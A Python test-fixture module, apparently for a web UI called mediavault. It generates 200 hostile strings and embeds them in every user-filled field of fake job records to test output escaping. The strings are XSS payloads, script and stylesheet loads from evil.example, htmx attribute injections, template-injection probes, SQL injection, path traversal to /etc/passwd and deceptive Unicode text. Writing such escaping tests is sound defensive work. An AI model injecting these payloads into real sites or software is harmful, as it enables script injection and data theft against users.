"""Two hundred texts that a stranger could put into a post, an account or an error to break a page, and posts made of them.

All are of this project's own writing. Whatever would run calls ``alert`` or sets ``window.hostile``: a test sees either.
"""

from __future__ import annotations

import uuid
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import datetime, timedelta
from itertools import product

from mediavault.core.errors import ErrorCode
from mediavault.core.job import HistoryRecord, ItemStatus, Job, JobId, JobItem, JobStatus, Outcome, RungName, Stage
from mediavault.core.media import Account, Candidate, FoundIn, Item, Ownership, SourceType
from mediavault.store.port import StoredJob

HOW_MANY = 200
RUN = "alert(document.domain)"
SET = "window.hostile=1"
LONG = 10_000  # characters

# What would run where text is taken for markup.
_ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//evil.example/x.js>{SET}</SCRIPT>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{SET}' alt=\"",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><a href="javascript:{RUN}"><text y=20>click</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x\"></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f'<iframe srcdoc="<script>parent.{SET}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="data:text/html,<script>{RUN}</script>">',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<a href="javascript:{RUN}">press me</a>',
    f'<form action="javascript:{RUN}"><button>press me</button></form>',
    f'<button formaction="javascript:{RUN}">press me</button>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<style>@import url(https://evil.example/x.css);</style>",
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f'<?xml version="1.0"?><script>{RUN}</script>',
    f"<x-y onclick={RUN} tabindex=1>x</x-y>",
    f"<p popover id=p onbeforetoggle={RUN}>x</p><button popovertarget=p>x</button>",
    f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
    f'<div style="position:fixed;inset:0;z-index:99;background:red" onclick={RUN}></div>',
    f"<img/src=`x`onerror={RUN}>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x:x\tonerror\n=\n{RUN}>",
    '<img src=x onerror="&#97;lert(1)">',
    f"<picture><img srcset=x onerror={RUN}></picture>",
    f"<track src=x onerror={RUN}>",
    f'<portal src="javascript:{RUN}"></portal>',
    f"<isindex type=image src=1 onerror={RUN}>",
)
# What ends an attribute, a script, a comment or an element that the text was put into.
_WAYS_OUT = (
    '"',
    "'",
    '">',
    "'>",
    "`",
    "--></",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</bdi></p>",
    "]]>",
    "*/",
)
_WAYS_IN = (f"<img src=x onerror={RUN}>", f" onmouseover={RUN} autofocus onfocus={RUN} x=", f";{SET};//")
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://videos.example/%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/path",
    "/\\evil.example",
    "https://user:pass@evil.example/<b>",
    'https://videos.example/?q="><svg onload=alert(1)>',
    "https://videos.example/#'-alert(1)-'",
    "file:///etc/passwd",
    "blob:https://videos.example/x",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[[${7*7}]]",
    "%(site)s %(nobody)s %s %d",
    "{site} {0} {nobody!r:>10}",
)
_SCRIPT_STRINGS = (
    f"';{RUN};'",
    f'";{RUN};"',
    f'\\";{RUN};//',
    f"\\';{RUN};//",
    f"`-{RUN}-`",
    f"${{{RUN}}}",
    f"\u2028{RUN}\u2029",
    f"</script><script>{RUN}</script>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={RUN}\\x3e",
    '{"__proto__": {"hostile": 1}}',
    "constructor",
    "__proto__",
    "toString",
)
_STYLES = (
    "red;background:url(https://evil.example/x)",
    "}body{display:none}",
    "</style><style>*{display:none}",
    "expression(alert(1))",
    "url(javascript:alert(1))",
    "@import 'https://evil.example/x.css';",
)
_HTMX = (
    "<div hx-get=/jobs hx-trigger=load hx-target=body>x</div>",
    "<div hx-post=/logout hx-trigger=load>x</div>",
    f'<div hx-on::load="{RUN}">x</div>',
    f'<div hx-on:click="{RUN}" autofocus tabindex=0>x</div>',
    f'<div data-hx-on--load="{SET}">x</div>',
    f"<div hx-vals='js:{{x: {RUN}}}' hx-get=/ hx-trigger=load>x</div>",
    "<div hx-ext=evil hx-get=https://evil.example/ hx-trigger=load>x</div>",
    '<div hx-swap-oob="innerHTML:body">x</div>',
    "<main id=main hx-swap-oob=true>gone</main>",
    '" hx-get="/jobs" hx-trigger="load',
    '" data-ask="" data-action="remove" x="',
    '" data-moment="2999-01-01T00:00:00Z" data-job="x" x="',
    '" data-field="title" id="messages" x="',
    "<form data-action=remove action=/jobs/x/remove><button autofocus>x</button></form>",
    '<time datetime="never" data-field="created">x</time>',
    "<template id=row><li>gone</li></template>",
    "<select data-submits><option>x</option></select>",
)
_WRITING = (
    "\u202egnp.exe\u202c harmless",
    "\u2066\u2067\u2068 isolates that never end",
    "\u200f\u200e\u061c marks",
    "abc \u202d\u202e\u202d\u202e def",
    "zero\u200bwidth\u200cjoin\u200ders\ufeff",
    "\u2060\u2061\u2062\u2063 unseen \u3164\u115f\u1160",
    "Z\u0351\u036b\u0343\u0363\u0348\u0346a\u034a\u0350\u0302\u0365l\u036a\u0316\u0323g\u0352\u0305o"
    + "\u0336\u0347\u0310" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 12,
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f and \U0001f1e9\U0001f1ea",
    "\U0001f937\U0001f3fd\u200d\u2640\ufe0f " * 20,
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 and English \u05e2\u05d1\u05e8\u05d9\u05ea 123",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ufdfd \ufdfa " * 12,
    "\u0e01\u0e33\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49",
    "\U00012219 \U0001242b \u2e3b " * 8,
    "\ufffd\ufffe\uffff noncharacters",
    "\x1b[31mred\x1b[0m and \x07 and \x08\x08\x08",
    "tab\tnew\nline\r\nand\x0bothers\x0c\x85\u2028\u2029",
    "null",
    "undefined",
    "NaN",
    "None",
    "[object Object]",
    "%00\\0\\x00&#0;&#x0;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;b&amp;gt; &nbsp; &copy &#x3c;",
    "0",
    "-1e999",
    "' OR 1=1 --",
    '"; DROP TABLE jobs; --',
    "<b>clip</b> \" & ' <final>.mp4",
    "CON.mp4<img src=x onerror=alert(1)>.jpg",
)
_SIZES = (
    "W" * LONG,
    "<" * LONG,
    ("word " * (LONG // 5)),
    "\u202e" * 100 + "x" * (LONG - 100),
    "a\u0301" * (LONG // 2),
    "\U0001f4a5" * LONG,
    "https://videos.example/" + "a" * LONG,
    f"<img src=x onerror={RUN}>" * (LONG // 40),
    "\u6587" * LONG,
    "&" * LONG,
)


def payloads() -> Sequence[str]:
    """``HOW_MANY`` different texts, always the same."""
    return tuple(dict.fromkeys(_all()))[:HOW_MANY]


def _all() -> Iterator[str]:
    yield from (*_ELEMENTS, *_ADDRESSES, *_TEMPLATES, *_SCRIPT_STRINGS, *_STYLES, *_HTMX, *_WRITING, *_SIZES)
    yield from (way_out + way_in for way_out, way_in in product(_WAYS_OUT, _WAYS_IN))
    yield from (f"<svg/onload={RUN}//{number}" for number in range(HOW_MANY))


@dataclass(frozen=True, slots=True)
class _State:
    status: JobStatus
    stage: Stage
    code: ErrorCode | None = None


_STATES = (
    _State(JobStatus.COMPLETED, Stage.COMPLETE),
    _State(JobStatus.FAILED, Stage.FAIL, ErrorCode.AMBIGUOUS),
    _State(JobStatus.FAILED, Stage.FAIL, ErrorCode.DELETED),
    _State(JobStatus.FAILED, Stage.FAIL, ErrorCode.LOGIN_REQUIRED),
    _State(JobStatus.COMPLETED, Stage.COMPLETE),
    _State(JobStatus.FAILED, Stage.FAIL, ErrorCode.RATE_LIMITED),
)


def posts(now: datetime, *, first: int = 0, texts: Sequence[str] = payloads()) -> list[StoredJob]:
    """One post for each text, with the text in every field that a stranger fills. They were saved before ``now``."""
    return [_post(first + number, text, now - timedelta(seconds=number)) for number, text in enumerate(texts)]


def post_id(number: int) -> JobId:
    """Of the post of the text with this number."""
    return JobId(str(uuid.UUID(int=(0xBAD << 112) | number)))


def _post(number: int, text: str, at: datetime) -> StoredJob:
    state = _STATES[number % len(_STATES)]
    kept = state.status is JobStatus.COMPLETED
    address = f"https://videos.example/{number}/{text}"
    account = Account("x", text, text, f"stranger-{number}")
    facts = {"file": text, "nested": {text[:50]: [text]}} if len(text) < 1_000 else {"file": text}
    job = Job(
        id=post_id(number),
        trace_id=f"{number:032x}",
        post_url=address,
        canonical_url=address,
        platform="x",
        status=JobStatus.QUEUED,
        created_at=at,
        updated_at=at,
        max_attempts=5,
        account=account,
        metadata={"title": text, "text": text, "post_id": text, "published_at": at.isoformat(), **facts},
        candidates=tuple(_candidate(text, place) for place in range(2)),
        image_urls=(text,),
        items=(
            JobItem(
                Item(media_id=text, label=text, thumbnail_url=text), ItemStatus.FAILED, None, ErrorCode.NO_VIDEO, text
            ),
        ),
    )
    changed = replace(
        job,
        status=state.status,
        stage=state.stage,
        attempt_count=1,
        error_code=state.code,
        error=text if state.code else None,
        failed_at=at if state.code else None,
        retry_at=at + timedelta(days=9) if state.code is ErrorCode.RATE_LIMITED else None,
        completed_at=at if kept else None,
        output_path=f"x/stranger/{text}.mp4" if kept else None,
        thumbnail_path=f"x/stranger/{text}.jpg" if kept else None,
        bytes=123_456 if kept else None,
        sha256="ab" * 32 if kept else None,
        duration_s=4.0 if kept else None,
        width=320 if kept else None,
        height=180 if kept else None,
        extracted_url=address,
        thumbnail_url=text,
    )
    history = tuple(
        HistoryRecord(at, 1, stage, outcome, RungName.PLAIN, state.code, text, 0, 12)
        for stage, outcome in ((Stage.EXTRACT, Outcome.OK), (Stage.DOWNLOAD, Outcome.FAILED))
    )
    return StoredJob(changed, history)


def _candidate(text: str, place: int) -> Candidate:
    return Candidate(
        url=f"https://media.example/{place}/{text}",
        source_type=SourceType.DIRECT,
        found_in=FoundIn.PAGE_DATA,
        ownership=Ownership.UNKNOWN,
        mime=text,
        container=text,
        video_codec=text,
        note=text,
    )
